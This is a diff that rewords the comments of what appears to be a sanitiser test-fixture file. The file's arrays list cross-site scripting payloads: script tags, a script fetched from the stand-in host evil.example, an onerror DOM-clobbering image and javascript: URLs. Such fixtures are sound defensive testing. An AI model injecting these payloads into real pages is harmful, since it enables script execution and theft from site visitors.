@@ -1,7 +1,7 @@
-// HTML and addresses that would act if they came through, each in another way: what a store or a
-// page takes must leave nothing of them that runs, loads from elsewhere, or leads out of the site.
+// HTML and addresses that attack a page, each in another way. A store or page that accepts them
+// must leave nothing that runs, loads from elsewhere, or leads away from the site.
 
-/** Each would call `alert`, load something of evil.example, or change the page around it. */
+/** HTML that would call `alert`, load something from evil.example, or change the page around it. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -165,7 +165,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<p name=attributes id=attributes><img name=firstChild id=nodeName src=x onerror=alert(1)></p>',
 ];
 
-/** In the places of addresses: of buttons, links and pictures. */
+/** Malicious values for the addresses of buttons, links and pictures. */
 export const HOSTILE_ADDRESSES: readonly string[] = [
   'javascript:alert(1)',
   ' javascript:alert(1)',
